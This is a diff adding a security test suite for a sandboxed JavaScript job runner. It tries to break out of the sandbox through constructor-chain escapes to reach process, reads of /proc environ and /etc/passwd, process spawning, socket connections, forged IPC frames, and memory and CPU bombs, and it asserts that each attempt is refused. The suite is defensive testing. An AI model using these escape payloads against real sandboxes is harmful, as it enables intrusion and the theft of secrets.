@@ -1,0 +1,524 @@
+import fs from "node:fs";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import type { StepRequest } from "./contract";
+import type { LocalRunner } from "./runner";
+import {
+  type Ran,
+  runStep,
+  stepRequest,
+  type TestServer,
+  testRunner,
+  testServer,
+} from "./testing/local-runner";
+
+/** Each case gets a project, hence a process, of its own. What the attacker got is what is asserted. */
+const canary = "env-canary-8c1f";
+const password = "hunter2hunter2";
+let runner: LocalRunner;
+let server: TestServer;
+let strangers = 0;
+
+beforeAll(async () => {
+  process.env.WAYBILL_CANARY = canary;
+  server = await testServer();
+  runner = await testRunner({ egressAllow: [`127.0.0.1:${server.port}`], workers: 6 });
+});
+afterAll(async () => {
+  await runner.close();
+  await server.close();
+});
+
+type More = Parameters<typeof stepRequest>[1];
+
+function attack(source: string, more: More = {}, on: LocalRunner = runner): Promise<Ran> {
+  strangers += 1;
+  const limits: StepRequest["limits"] = { timeoutMs: 4000, ...more?.limits };
+  return runStep(on, stepRequest(source, { projectId: `attacker-${strangers}`, ...more, limits }));
+}
+
+/** [what, source, expected reason, expected type, more] */
+type Case = [string, string, Ran["reason"], string | null, More?];
+
+const table = (cases: Case[]): void => {
+  for (const [what, source, reason, type, more] of cases) {
+    test(`${what}: ${type ?? reason}`, async () => {
+      const result = await attack(source, more);
+      expect({ reason: result.reason, type: result.error?.type ?? null }).toEqual({ reason, type });
+    });
+  }
+};
+
+describe("code from text is refused", () => {
+  table([
+    [
+      "Function through an arrow",
+      'fn(s => ({ p: (() => {}).constructor.constructor("return process")() }))',
+      "kill",
+      "SecurityError",
+    ],
+    [
+      "Function of a host function",
+      'fn(s => ({ p: console.log.constructor("return process")().version }))',
+      "kill",
+      "SecurityError",
+    ],
+    [
+      "Function of an adaptor function",
+      'fn(s => ({ p: fn.constructor("return process")().version }))',
+      "kill",
+      "SecurityError",
+    ],
+    [
+      "AsyncFunction",
+      'fn(async s => ({ p: (async () => {}).constructor("return 1")() }))',
+      "kill",
+      "SecurityError",
+    ],
+    [
+      "GeneratorFunction",
+      'fn(s => ({ p: (function* () {}).constructor("return 1")() }))',
+      "kill",
+      "SecurityError",
+    ],
+    [
+      "lodash's template",
+      'fn(s => ({ o: _.template("<% print(process.version) %>")() }))',
+      "kill",
+      "SecurityError",
+    ],
+    ["eval", 'fn(s => { eval("1+1"); return s })', "kill", "SecurityError"],
+    ["indirect eval", 'fn(s => { (0, eval)("1+1"); return s })', "kill", "SecurityError"],
+    ["new Function", 'fn(s => { new Function("return 1")(); return s })', "kill", "SecurityError"],
+    ["a timer with text", 'fn(s => { setTimeout("x=1", 0); return s })', "fail", "TypeError"],
+    ["import.meta", "fn(s => ({ u: import.meta.url }))", "kill", "SecurityError"],
+  ]);
+});
+
+describe("modules other than the step's adaptor are refused", () => {
+  table([
+    ["import fs", 'import fs from "fs"; fn(s => s)', "kill", "ImportError"],
+    ["import node:fs", 'import fs from "node:fs"; fn(s => s)', "kill", "ImportError"],
+    [
+      "import() of fs",
+      'fn(async s => ({ f: Object.keys(await import("fs")).length }))',
+      "kill",
+      "ImportError",
+    ],
+    ["another adaptor", 'import { get } from "@openfn/language-http"; fn(s => s)', "kill", "ImportError"],
+    [
+      "a data: URL",
+      'fn(async s => ({ f: await import("data:text/javascript,export default 1") }))',
+      "kill",
+      "ImportError",
+    ],
+    ["require", 'fn(s => { require("fs"); return s })', "crash", "ReferenceError"],
+    ["process", "fn(s => ({ e: process.env }))", "crash", "ReferenceError"],
+    ["Deno", "fn(s => ({ e: Deno.env }))", "crash", "ReferenceError"],
+    ["an undeclared name", "fn(s => ({ a: nope }))", "crash", "ReferenceError"],
+    ["assigning to an undeclared name", "fn(s => { leak = 1; return s })", "crash", "ReferenceError"],
+  ]);
+
+  test("the global object has no process, Deno, fetch or require", async () => {
+    const { state } = await attack(
+      "fn(s => ({ t: ['process', 'Deno', 'fetch', 'require', 'XMLHttpRequest'].map(k => typeof globalThis[k]) }))",
+    );
+    expect(state).toEqual({ t: Array(5).fill("undefined") });
+  });
+});
+
+describe("mistakes are told apart", () => {
+  table([
+    ["a throw", 'fn(s => { throw new Error("mine") })', "fail", "JobError"],
+    ["a thrown text", 'fn(s => { throw "mine" })', "fail", "JobError"],
+    ["endless recursion", "fn(s => { const f = () => f(); f() })", "fail", "RangeError"],
+    ["a call that is no operation", '"x"; (() => 5)()', "crash", "ValidationError"],
+    ["a refused connection", `get("http://127.0.0.1:1/x")`, "fail", "AdaptorError", { http: true }],
+  ]);
+
+  test("positions are exact", async () => {
+    const syntax = await attack("fn(s=>{ )");
+    expect(syntax).toMatchObject({
+      reason: "crash",
+      error: { type: "SyntaxError", position: { line: 1, column: 9 } },
+    });
+    const nothing = await attack("fn(s=>s)\nfn(state => state.a.b.c)");
+    expect(nothing).toMatchObject({
+      reason: "fail",
+      error: { type: "TypeError", position: { line: 2, column: 21 } },
+    });
+  });
+});
+
+describe("endless work ends at the deadline", () => {
+  const limits = { timeoutMs: 500 };
+  table([
+    ["while (true)", "fn(s => { while (true) {} })", "kill", "TimeoutError", { limits }],
+    ["an async loop", "fn(async s => { for (;;) await null })", "kill", "TimeoutError", { limits }],
+    ["a promise that never settles", "fn(s => new Promise(() => {}))", "kill", "TimeoutError", { limits }],
+    [
+      "Atomics.wait",
+      "fn(s => { Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); return s })",
+      "kill",
+      "TimeoutError",
+      { limits },
+    ],
+    [
+      "a slow pattern",
+      'fn(s => { /^(a+)+$/.test("a".repeat(40) + "b"); return s })',
+      "kill",
+      "TimeoutError",
+      { limits },
+    ],
+    ["a loop outside operations", "for (;;) {}; fn(s => s)", "kill", "TimeoutError", { limits }],
+    ["a getter in the result", "fn(s => ({ get x() { for (;;); } }))", "kill", "TimeoutError", { limits }],
+    ["toJSON in the result", "fn(s => ({ toJSON() { for (;;); } }))", "kill", "TimeoutError", { limits }],
+  ]);
+
+  test("a condition that never ends is undecided, the step's result stays", async () => {
+    const conditions = [{ edgeId: "e", expression: "(() => { for (;;); })()" }];
+    const result = await attack("fn(s => s)", { conditions, limits: { timeoutMs: 60_000 } });
+    expect(result).toMatchObject({ reason: "success", conditions: { e: { type: "EdgeConditionError" } } });
+  });
+});
+
+describe("memory bombs hit the limit", () => {
+  const limits = { timeoutMs: 20_000 };
+  table([
+    ["heap", "fn(s => { const a = []; for (;;) a.push({ x: 1, y: [1] }) })", "kill", "OomError", { limits }],
+    [
+      "buffers",
+      "fn(s => { const a = []; for (;;) a.push(Buffer.alloc(3e7, 1)) })",
+      "kill",
+      "OomError",
+      { limits },
+    ],
+    [
+      "shared buffers",
+      "fn(s => { const a = []; for (;;) { const b = new Uint8Array(new SharedArrayBuffer(3e7)); b.fill(1); a.push(b) } })",
+      "kill",
+      "OomError",
+      { limits },
+    ],
+  ]);
+  for (const [what, source] of [
+    [
+      "promises",
+      "fn(s => { const f = () => Promise.all([0, 0, 0].map(async () => { await null; return f() })); return f() })",
+    ],
+    ["timers", "fn(s => { for (;;) setTimeout(() => {}, 1e9) })"],
+  ] as const) {
+    test(`${what}: ended, and others go on`, async () => {
+      const [bomb, other] = await Promise.all([attack(source, { limits }), attack("fn(s => ({ ok: 1 }))")]);
+      expect(bomb.reason).toBe("kill");
+      expect(["OomError", "TimeoutError"]).toContain(bomb.error?.type);
+      expect(other.state).toEqual({ ok: 1 });
+    });
+  }
+});
+
+describe("results are data", () => {
+  test("30 MB: StateTooLargeError", async () => {
+    expect(await attack('fn(s => ({ x: "y".repeat(3e7) }))')).toMatchObject({
+      reason: "kill",
+      error: { type: "StateTooLargeError" },
+    });
+  });
+  test("cycles and odd values are written as JSON can", async () => {
+    expect((await attack("fn(s => { const a = {}; a.a = a; return { a } })")).state).toEqual({
+      a: { a: "[Circular]" },
+    });
+    const odd = await attack("fn(s => ({ a: 10n, f() {}, u: undefined, d: new Date(0) }))");
+    expect(odd.state).toEqual({ a: "10", d: "1970-01-01T00:00:00.000Z" });
+  });
+  test("100,000 levels: RangeError", async () => {
+    const deep = await attack("fn(s => { let a = {}; for (let i = 0; i < 1e5; i++) a = { a }; return a })");
+    expect(deep).toMatchObject({ reason: "fail", error: { type: "RangeError" } });
+  });
+  test("__proto__ is a key like any other and pollutes nothing here", async () => {
+    const result = await attack('fn(s => JSON.parse(\'{"__proto__":{"polluted":1}}\'))');
+    expect(result.output).toBe('{"__proto__":{"polluted":1}}');
+    expect(Reflect.get({}, "polluted")).toBeUndefined();
+  });
+});
+
+describe("logs are bounded and scrubbed", () => {
+  test("a million lines: cut at the limit, with a notice", async () => {
+    const result = await attack(
+      'fn(s => { for (let i = 0; i < 1e6; i++) console.log("x".repeat(20)); return {} })',
+      {
+        limits: { timeoutMs: 30_000, maxLogLines: 2000 },
+      },
+    );
+    expect(result.reason).toBe("success");
+    const lines = result.logs.filter((line) => line.source === "JOB");
+    expect(lines).toHaveLength(2001);
+    expect(lines.at(-1)?.message).toContain("log limit reached");
+  });
+  test("a line of 50 MB is truncated", async () => {
+    const result = await attack('fn(s => { console.log("x".repeat(5e7)); return {} })');
+    expect(result.reason).toBe("success");
+    expect(Math.max(...result.logs.map((line) => line.message.length))).toBeLessThan(70_000);
+  });
+  test("a secret is masked in lines, errors and the result", async () => {
+    const source = `fn(s => { const { password } = s.configuration; console.log("pw", password, btoa2(password)); throw new Error("no " + password) });
+      function btoa2(text) { return Buffer.from(text).toString("base64") }`;
+    const failed = await attack(source, { configuration: { password } });
+    expect(failed.logs.map((line) => line.message)).toContain("pw *** ***");
+    expect(failed.error?.message).toBe("no ***");
+    const copied = await attack("fn(s => ({ leak: s.configuration.password }))", {
+      configuration: { password },
+    });
+    expect(copied.state).toEqual({ leak: "***" });
+  });
+  test("hostile getters and proxies in a logged value do no harm", async () => {
+    const result = await attack(
+      'fn(s => { console.log({ get a() { throw new Error("x") } }); console.log(new Proxy({}, { ownKeys() { throw 1 } })); return {} })',
+    );
+    expect(result.reason).toBe("success");
+  });
+  test("a looping getter in a logged value ends at the deadline", async () => {
+    const result = await attack("fn(s => { console.log({ get a() { for (;;); } }); return {} })", {
+      limits: { timeoutMs: 500 },
+    });
+    expect(result.error?.type).toBe("TimeoutError");
+  });
+});
+
+describe("what a step leaves behind", () => {
+  test("a polluted realm is gone in the next step of the same process", async () => {
+    const own = { projectId: "polluter" };
+    await attack(
+      "fn(s => { Object.prototype.polluted = 1; Array.prototype.map = () => 666; return {} })",
+      own,
+    );
+    const next = await attack("fn(s => ({ p: ({}).polluted ?? null, m: [1].map(x => x) }))", own);
+    expect(next.state).toEqual({ p: null, m: [1] });
+  });
+  test("a patched dependency is seen by no other project", async () => {
+    await attack('fn(s => { _.chunk = () => "evil"; return {} })', { projectId: "patcher" });
+    const other = await attack("fn(s => ({ c: _.chunk([1, 2, 3], 2) }))", { projectId: "bystander" });
+    expect(other.state).toEqual({ c: [[1, 2], [3]] });
+  });
+  test("a late rejection and a late throw belong to the step", async () => {
+    const rejection = await attack(
+      'fn(s => { Promise.reject(new Error("late")); return new Promise(r => setTimeout(() => r(s), 50)) })',
+    );
+    expect(rejection).toMatchObject({ reason: "crash", error: { message: "late" } });
+    const thrown = await attack(
+      'fn(s => { setTimeout(() => { throw new TypeError("late") }, 5); return new Promise(r => setTimeout(() => r(s), 50)) })',
+    );
+    expect(thrown).toMatchObject({ reason: "crash", error: { type: "TypeError", message: "late" } });
+  });
+  test("Error.prepareStackTrace breaks nothing", async () => {
+    const result = await attack(
+      'fn(s => { Error.prepareStackTrace = (e, f) => f; new Error("x").stack; throw new TypeError("mine") })',
+    );
+    expect(result).toMatchObject({ reason: "fail", error: { type: "TypeError" } });
+  });
+  test("timers of a finished step do not run in the next", async () => {
+    const own = { projectId: "timers" };
+    await attack("fn(s => { setTimeout(() => console.log('late'), 30); return {} })", own);
+    const next = await attack("fn(s => new Promise(r => setTimeout(() => r({}), 100)))", own);
+    expect(next.logs.map((line) => line.message)).not.toContain("late");
+  });
+});
+
+/** Anybody gets here in one line: no case below may rely on the vm. */
+const host = "const G = _.noConflict.call(); const D = G.Deno;";
+const attempt = (body: string): string =>
+  `${host}fn(async s => { try { return { got: await (async () => { ${body} })() } } catch (e) { return { refused: e.name + ': ' + e.message } } })`;
+
+describe("with the whole process in hand", () => {
+  test("assumption: the vm lets any job out", async () => {
+    const { state } = await attack(
+      `${host}fn(s => ({ deno: typeof D.version.deno, process: typeof G.process }))`,
+    );
+    expect(state).toEqual({ deno: "string", process: "object" });
+  });
+
+  const probes: [string, string][] = [
+    ["the runner's environment", 'return D.readTextFileSync("/proc/" + G.process.ppid + "/environ")'],
+    ["its own environment file", 'return D.readTextFileSync("/proc/self/environ")'],
+    ["its own file descriptors", 'return [...D.readDirSync("/dev/fd")].length'],
+    ["/etc/passwd", 'return D.readTextFileSync("/etc/passwd")'],
+    [
+      "/etc/passwd through node:fs",
+      'return String(G.process.getBuiltinModule("fs").readFileSync("/etc/passwd"))',
+    ],
+    ["a write", 'D.writeTextFileSync("/tmp/waybill-pwned", "x"); return "written"'],
+    ["a spawned process", 'return new D.Command("/usr/bin/id").outputSync().stdout.length'],
+    [
+      "a spawned process through node",
+      'return String(G.process.getBuiltinModule("child_process").execFileSync("/usr/bin/id"))',
+    ],
+    ["a signal to the runner", `return G.process.kill(${process.pid}, 0)`],
+    [
+      "a native library",
+      'return D.dlopen("/lib/x86_64-linux-gnu/libc.so.6", { getpid: { parameters: [], result: "i32" } }).symbols.getpid()',
+    ],
+    [
+      "a SQLite file",
+      'const q = G.process.getBuiltinModule("node:sqlite"); new q.DatabaseSync("/tmp/waybill-pwn.db").exec("create table t(x)"); return "opened"',
+    ],
+    ["the host name", "return D.hostname()"],
+    [
+      "a remote module",
+      'return Object.keys(await D.core?.import?.("https://example.org/x.js") ?? await G.eval("1"))',
+    ],
+    ["a name server", 'return await D.resolveDns("example.org", "A")'],
+  ];
+  for (const [what, body] of probes) {
+    test(`${what}: refused`, async () => {
+      const { state, output } = await attack(attempt(body));
+      expect(state).toHaveProperty("refused");
+      expect(output).not.toContain(canary);
+      expect(output).not.toContain("root:");
+    });
+  }
+
+  test("the environment is empty", async () => {
+    const { output } = await attack(
+      attempt('return [D.env.toObject(), D.env.get("PATH") ?? null, { ...G.process.env }]'),
+    );
+    expect(output).not.toContain(canary);
+    expect(output).not.toContain("/usr/bin");
+  });
+
+  test("sockets of every kind are refused", async () => {
+    const { port } = server;
+    server.hits.length = 0;
+    const bodies = [
+      `const c = await D.connect({ hostname: "127.0.0.1", port: ${port} }); return "connected"`,
+      `return (await G.fetch("http://127.0.0.1:${port}/raw")).status`,
+      `return await new Promise((ok, no) => { const c = G.process.getBuiltinModule("net").connect(${port}, "127.0.0.1", () => ok("connected")); c.on("error", no) })`,
+      `return await D.connect({ transport: "unix", path: "/tmp/x.sock" })`,
+      `return D.listen({ port: 0 }).addr`,
+      `return D.listenDatagram({ transport: "udp", port: 0, hostname: "0.0.0.0" }).addr`,
+      `return await new Promise((ok, no) => { const w = new G.WebSocket("ws://127.0.0.1:${port}"); w.onopen = () => ok("open"); w.onerror = (e) => no(new Error(e.message)) })`,
+    ];
+    for (const body of bodies) {
+      const { state } = await attack(attempt(body), { limits: { timeoutMs: 3000 } });
+      expect(state, body).toHaveProperty("refused");
+    }
+    expect(server.hits).toEqual([]);
+  });
+
+  test("no storage outlives a step or reaches another project", async () => {
+    const probe = `${host}fn(s => ({ l: typeof G.localStorage, s: typeof G.sessionStorage, c: typeof G.caches }))`;
+    expect((await attack(probe)).state).toEqual({ l: "undefined", s: "undefined", c: "undefined" });
+    const revive = attempt(
+      'const s = Object.getOwnPropertyNames(G).filter(k => /torage|caches/.test(k)); for (const k of s) { try { G[k].setItem("a", "1") } catch {} } return s',
+    );
+    await attack(revive);
+    const { output } = await attack(revive);
+    expect(output).not.toContain("localStorage");
+  });
+
+  test("a raised heap limit does not raise the memory limit", async () => {
+    const source = `${host}fn(s => { G.process.getBuiltinModule("v8").setFlagsFromString("--max-old-space-size=4096"); const a = []; for (;;) a.push({ x: 1, y: [1] }) })`;
+    expect(await attack(source, { limits: { timeoutMs: 20_000 } })).toMatchObject({
+      reason: "kill",
+      error: { type: "OomError" },
+    });
+  });
+
+  test("a web worker is as poor as its parent", async () => {
+    const code =
+      'postMessage((() => { try { return Deno.readTextFileSync("/etc/passwd") } catch (e) { return "refused " + e.name } })())';
+    const source = `${host}fn(s => new Promise((ok) => { const w = new G.Worker("data:text/javascript," + ${JSON.stringify(encodeURIComponent(code))}, { type: "module" }); w.onmessage = e => ok({ w: e.data }); w.onerror = e => { e.preventDefault(); ok({ w: "refused " + e.message }) } }))`;
+    const result = await attack(source);
+    if (result.reason === "success") expect(JSON.stringify(result.state)).toContain("refused");
+    else expect(["kill", "lost"]).toContain(result.reason);
+  });
+
+  for (const [what, body] of [
+    ["exit", "(G.process.reallyExit || G.process.exit).call(G.process, 0)"],
+    ["abort", "G.process.abort()"],
+    [
+      "a frame of 4 GB",
+      "D.stdout.writeSync(Buffer.from([255, 255, 255, 255, 12])); return new Promise(() => {})",
+    ],
+    ["an unknown frame", "D.stdout.writeSync(Buffer.from([0, 0, 0, 1, 77])); return new Promise(() => {})"],
+    [
+      "an oversized log frame",
+      "D.stdout.writeSync(Buffer.from([0, 127, 0, 0, 12])); return new Promise(() => {})",
+    ],
+    [
+      "text that is no frame",
+      'console.log = 0; D.stdout.writeSync(Buffer.from("hello hello hello")); return new Promise(() => {})',
+    ],
+  ] as const) {
+    test(`${what}: the step is lost, the pool is filled again`, async () => {
+      const result = await attack(`${host}fn(s => { ${body} })`);
+      expect(result).toMatchObject({ reason: "lost", output: null, error: { type: "Lost" } });
+      await expect.poll(() => runner.pool.counts.blank, { timeout: 10_000 }).toBeGreaterThan(0);
+      expect((await attack("fn(s => ({ ok: 1 }))")).state).toEqual({ ok: 1 });
+    });
+  }
+
+  /** Sends frames as the worker's own code would. */
+  const frames = `${host}const sendFrame = (type, text) => { const b = Buffer.from(text); const h = Buffer.alloc(5); h.writeUInt32BE(b.length + 1); h[4] = type; D.stdout.writeSync(Buffer.concat([h, b])) };
+    const done = (token, state) => { const h = Buffer.from(JSON.stringify({ token, ok: true, durationMs: 1, error: null, requests: [] })); const n = Buffer.alloc(4); n.writeUInt32BE(h.length); sendFrame(13, Buffer.concat([n, h, Buffer.from(state)])) };`;
+
+  test("a result for a step that is not its own ends the worker", async () => {
+    const result = await attack(`${frames}fn(s => { done(4000000000, "{}"); return new Promise(() => {}) })`);
+    expect(result).toMatchObject({
+      reason: "lost",
+      error: { message: expect.stringContaining("another step") },
+    });
+  });
+
+  test("a second result, and lines after the result, reach nobody", async () => {
+    const own = { projectId: "doubler" };
+    const source = `${frames}fn(s => { for (let t = 1; t < 5000; t++) sendFrame(12, JSON.stringify({ token: 3e9 + t, level: "info", source: "JOB", at: 0, message: "forged" })); setTimeout(() => { for (;;) sendFrame(13, "xxxx") }, 0); return s })`;
+    const first = await attack(source, own);
+    expect(first.logs.map((line) => line.message)).not.toContain("forged");
+    const next = await attack("fn(s => ({ ok: 1 }))", own);
+    expect(next.state).toEqual({ ok: 1 });
+  });
+
+  test("a result that is not JSON is not handed on", async () => {
+    const patch = `const write = G.JSON.stringify; G.JSON.stringify = (v, f, n) => typeof f === "function" ? '{"half":' : write(v, f, n)`;
+    const result = await attack(`${host}fn(s => { ${patch}; return s })`);
+    expect(result).toMatchObject({
+      reason: "lost",
+      output: null,
+      error: { message: expect.stringContaining("not JSON") },
+    });
+  });
+});
+
+describe("the runner's own things", () => {
+  test("its environment is in no worker's", async () => {
+    await attack("fn(s => s)");
+    for (const worker of runner.pool.workers()) {
+      const text = worker.pid === null ? "" : fs.readFileSync(`/proc/${worker.pid}/environ`, "utf8");
+      expect(text).not.toContain(canary);
+    }
+  });
+
+  test("a worker has its three pipes and nothing else of ours", () => {
+    const [worker] = runner.pool.workers();
+    const fds = fs.readdirSync(`/proc/${worker?.pid}/fd`).map((fd) => {
+      try {
+        return fs.readlinkSync(`/proc/${worker?.pid}/fd/${fd}`);
+      } catch {
+        return "";
+      }
+    });
+    expect(fds.filter((target) => target.startsWith("socket:")).length).toBeLessThanOrEqual(3);
+    expect(fds.filter((target) => target.startsWith("/work") || target.startsWith("/tmp"))).toEqual([]);
+  });
+
+  test("each worker has a user id of its own, no capability and no way to gain one", () => {
+    if (!runner.isolation.plan.layers.includes("uid")) return;
+    const ids = runner.pool.workers().map((worker) => {
+      const status = fs.readFileSync(`/proc/${worker.leafPid()}/status`, "utf8");
+      expect(status).toMatch(/^NoNewPrivs:\s+1$/m);
+      expect(status).toMatch(/^CapEff:\s+0+$/m);
+      return /^Uid:\s+(\d+)/m.exec(status)?.[1];
+    });
+    expect(new Set(ids).size).toBe(ids.length);
+    expect(ids).not.toContain("0");
+  });
+});
